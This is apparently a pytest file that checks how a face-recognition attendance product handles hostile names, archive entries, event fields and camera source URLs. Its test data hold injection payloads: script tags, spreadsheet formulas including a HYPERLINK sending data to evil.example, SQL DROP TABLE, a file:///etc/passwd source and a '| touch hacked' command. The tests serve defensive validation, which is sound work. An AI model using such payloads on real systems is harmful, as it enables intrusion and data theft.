"""Hostile texts: names and camera sources that would be markup, a formula, a command, a password or a terminal's
orders, if anything took them for one."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from uuid import uuid4

import msgspec
import pytest
import requests

from faces import wire
from faces.events import Event, Status
from faces.texts import acts
from tests.hostile.conftest import Product
from tests.hostile.zips import Raw, build

ROOT = Path(__file__).parents[2]
TAKEN = [
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "'; DROP TABLE identities; --",
    "👩‍🚒 Zoë",
    "{{7*7}} ${7*7} %s%n",
    "[bold red]not markup[/]",
]
REFUSED = ["\x1b[2J\x1b[31mAnn", "Ann\u202egpj", "\u2066Ann", "Ann\nadmin=true", "Ann\0", "\ud800", "x" * 201, " ", ""]
EDGE = {wire.EDGE_HEADER: "edge-hostile", wire.WIRE_HEADER: str(wire.WIRE), "Content-Type": wire.MSGPACK}


def safe_table(answer: requests.Response) -> list[list[str]]:
    """The rows of a CSV, none of whose cells a spreadsheet runs."""
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    assert len({len(row) for row in rows}) == 1, "no text broke out of its cell"
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell.lstrip("-").replace(".", "").isdigit()
        assert not acts(cell)
    return rows


def in_logs(product: Product) -> str:
    logs = product.place.data.parent / "logs"
    return "".join(path.read_text() for path in logs.iterdir())


def test_hostile_23_names_that_are_only_names(product: Product, portrait: dict[str, bytes]) -> None:
    url = product.place.url
    with product.bounds():
        ids = {}
        for name in TAKEN:
            made = requests.post(f"{url}/v1/identities", json={"name": name, "external_id": name}, timeout=10)
            assert (made.status_code, made.json()["name"]) == (201, name)
            assert made.headers["Content-Type"] == "application/json"
            ids[name] = made.json()["id"]
            found = requests.get(f"{url}/v1/identities", params={"name": name}, timeout=10).json()["items"]
            assert [person["id"] for person in found] == [ids[name]]
        assert product.register(portrait["obama"], TAKEN[0]).status_code == 200
        assert TAKEN[0] in requests.get(f"{url}/faces", timeout=10).json()


@pytest.mark.parametrize("name", REFUSED, ids=ascii)
def test_hostile_23_names_that_act_are_refused_everywhere(product: Product, name: str) -> None:
    url = product.place.url
    body = json.dumps({"name": name})
    with product.bounds():
        for path in ("/v1/identities", "/v1/sites", "/v1/galleries"):
            answer = requests.post(url + path, data=body, headers={"Content-Type": "application/json"}, timeout=10)
            assert (answer.status_code, answer.json()["code"]) == (400, "invalid"), path
        encoded = name.encode(errors="surrogatepass").decode("latin-1")
        answer = requests.post(f"{url}/unregister", data={"name": encoded.encode("latin-1")}, timeout=10)
        assert answer.status_code in (400, 404)
        assert not acts(answer.json()["detail"])
    assert not acts(in_logs(product).replace("\n", ""))


def test_hostile_23_a_name_of_10_mb(product: Product, portrait: dict[str, bytes]) -> None:
    url, name = product.place.url, "x" * 10_000_000
    with product.bounds():
        assert requests.post(f"{url}/v1/identities", json={"name": name}, timeout=10).status_code == 413
        assert requests.post(f"{url}/unregister", data={"name": name}, timeout=10).status_code in (400, 413)
        assert product.register(portrait["obama"], name).status_code in (400, 413)
        assert requests.get(f"{url}/faces", timeout=10).json() == []


def test_hostile_23_names_in_an_archive(product: Product, portrait: dict[str, bytes], tmp_path: Path) -> None:
    names = [name.replace("/", "").replace("\\", "") for name in TAKEN] + ["\x1b[31mred", "Ann\u202e", "nobody"]
    entries = [Raw(f"{name}.jpg".encode(), b"no picture") for name in names]
    entries += [Raw(b"obama.jpg", portrait["obama"]), Raw(b"obama2.jpg", portrait["obama2"])]
    said = 'file,name,external_id\nobama.jpg,"=1+1",\nobama2.jpg,Obama,"\x1b[31m"\n'
    with product.bounds():
        found = product.take(build([*entries, Raw(b"manifest.csv", said.encode())]))
        assert found["accepted"] == 1
        rows = safe_table(requests.get(f"{product.place.url}/v1/imports/{found['id']}/refusals.csv", timeout=10))
        reasons = {row[0].lstrip("'"): row[3] for row in rows[1:]}
        assert reasons["\ufffd[31mred.jpg"] == reasons["Ann\ufffd.jpg"] == "bad_entry_name"
        assert reasons["obama2.jpg"] == "bad_manifest"
        assert sorted(set(reasons.values())) == ["bad_entry_name", "bad_manifest", "not_an_image"]
        assert requests.get(f"{product.place.url}/faces", timeout=10).json() == ["=1+1"]
    archive = tmp_path / "names.zip"
    archive.write_bytes(build(entries))
    run = subprocess.run(
        [sys.executable, "-m", "rollcall", "import", str(archive), "--url", product.place.url],
        capture_output=True,
        cwd=ROOT,
        timeout=60,
    )
    told = run.stdout.decode() + run.stderr.decode()
    assert "<script>" in told
    assert not acts(told.replace("\n", ""))
    assert not acts(in_logs(product).replace("\n", ""))


def test_hostile_23_names_in_events_and_their_exports(product: Product) -> None:
    url = product.place.url
    hello = wire.Hello(name="box", version="1", engine="sface", cameras=["door"])
    requests.put(f"{url}/v1/edges/edge-hostile", data=wire.encode(hello), headers=EDGE, timeout=10)

    def event(**fields: Any) -> Event:
        moment = datetime.now(UTC)
        return Event(id=uuid4(), camera="door", captured_at=moment, status=Status.PASS, distance=0.2, **fields)

    taken = [event(name=name, identity_id=f"p{n}", reason=name) for n, name in enumerate(TAKEN)]
    refused = [event(name=name) for name in ("\x1b[2J", "Ann\u202egpj", "a\0b", "a\nb", "x" * 201)]
    batch = wire.EventBatch([msgspec.Raw(wire.encode(e)) for e in taken + refused])
    with product.bounds():
        answer = requests.post(f"{url}/v1/events", data=wire.encode(batch), headers=EDGE, timeout=10)
        outcomes = [v.outcome for v in wire.decode(answer.content, wire.Verdicts).verdicts]
        assert outcomes == ["stored"] * len(taken) + ["refused"] * len(refused)
        exported = safe_table(requests.get(f"{url}/v1/events/export", params={"edge": "edge-hostile"}, timeout=10))
        names = [row[exported[0].index("name")] for row in exported[1:]]
        assert [name.removeprefix("'") for name in names] == [name.removeprefix("'") for name in TAKEN]
        today = datetime.now(UTC).date()
        asked = {"day": str(today), "format": "csv"}
        assert len(safe_table(requests.get(f"{url}/v1/attendance", params=asked, timeout=10))) == len(taken) + 1


SOURCES = {
    "door": "rtsp://u:s3cret@ss:w#rd?@127.0.0.1:9/stream?token=s3cret",
    "passwd": "file:///etc/passwd",
    "option": "-protocol_whitelist=all",
    "red": "rtsp://127.0.0.1:9/\x1b[31m",
    "pipe": "http://127.0.0.1:9/video | touch hacked",
}


def test_hostile_24_camera_sources_that_are_more_than_a_source(tmp_path: Path) -> None:
    """What can be no camera stops the start and is named; what can be one is lost, and its password shown nowhere."""
    cameras = tmp_path / "cameras.toml"
    log = tmp_path / "edge.log"

    def start(*names: str) -> subprocess.Popen[bytes]:
        tables = [f"[[camera]]\nname = {json.dumps(n)}\nsource = {json.dumps(SOURCES[n])}\n" for n in names]
        cameras.write_text("".join(tables))
        settings = {
            "EDGE_CONFIG": str(cameras),
            "DATA_DIR": str(tmp_path / "data"),
            "CONTROL_PLANE_URL": "http://127.0.0.1:9",
        }
        with log.open("wb") as output:
            return subprocess.Popen(
                [sys.executable, "-m", "edge"],
                cwd=tmp_path,
                env={**os.environ, **settings, "PYTHONPATH": str(ROOT)},
                stdout=output,
                stderr=output,
            )

    told = {
        "option": "there is no file -protocol_whitelist=all",
        "passwd": "line 3: VIDEO_SOURCE is no camera's number, path or URL",
        "red": "line 3: VIDEO_SOURCE holds characters that cannot be printed",
    }
    for name, said in told.items():
        assert start(name).wait(60) == 2
        assert said in log.read_text()
    running = start("door", "pipe")
    try:
        deadline = time.monotonic() + 60
        while log.read_text().count(" is lost") < 2:
            assert running.poll() is None, log.read_text()
            assert time.monotonic() < deadline, log.read_text()
            time.sleep(0.05)
        shown = log.read_text()
        listed = Path(f"/proc/{running.pid}/cmdline").read_text()
    finally:
        running.terminate()
        running.wait(20)
    for secret in ("s3cret", "w#rd", "root:"):
        assert secret not in shown + listed
    assert "rtsp://127.0.0.1:9/stream is lost" in shown
    assert not acts(shown.replace("\n", ""))
    assert not (tmp_path / "hacked").exists()


def test_hostile_24_no_source_that_an_edge_is_sent_is_kept_or_shown(product: Product) -> None:
    url = product.place.url
    hello = wire.Hello(name="box", version="1", engine="sface", cameras=["door"])
    requests.put(f"{url}/v1/edges/edge-hostile", data=wire.encode(hello), headers=EDGE, timeout=10)
    with product.bounds():
        order = {"action": "put", "camera": "door", "source": SOURCES["door"]}
        made = requests.post(f"{url}/v1/edges/edge-hostile/orders", json=order, timeout=10)
        assert made.status_code == 202
        shown = requests.get(f"{url}/v1/edges/edge-hostile/orders/{made.json()['id']}", timeout=10)
        assert "s3cret" not in made.text + shown.text + requests.get(f"{url}/v1/edges", timeout=10).text
    assert "s3cret" not in in_logs(product)
